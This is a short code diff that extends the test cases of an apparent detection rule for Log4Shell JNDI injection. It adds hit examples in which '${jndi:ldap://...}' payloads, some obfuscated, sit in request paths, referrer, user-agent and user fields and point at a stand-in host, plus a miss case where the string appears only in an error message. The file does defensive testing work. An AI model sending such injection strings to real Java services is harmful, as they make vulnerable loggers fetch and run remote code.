@@ -22,6 +22,16 @@ export default defineRule({
   hits: [
     'GET /?x=${jndi:ldap://203.0.113.9/a}',
     { request: 'GET / HTTP/1.1', agent: '${${lower:j}ndi:ldap://203.0.113.9/a}' },
+    'GET /${jndi:ldap:/203.0.113.9/a} HTTP/1.1',
+    {
+      request: 'GET / HTTP/1.1',
+      referrer: 'https://www.example.com/?x=${jndi:ldap://203.0.113.9/a}',
+    },
+    { request: 'GET / HTTP/1.1', user: '${jndi:ldap:/203.0.113.9/a}' },
   ],
-  misses: ['GET /docs/jndi-tutorial', 'GET /search?q=jndi+lookup'],
+  misses: [
+    'GET /docs/jndi-tutorial',
+    'GET /search?q=jndi+lookup',
+    { message: 'upstream timed out, request: "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1"' },
+  ],
 })
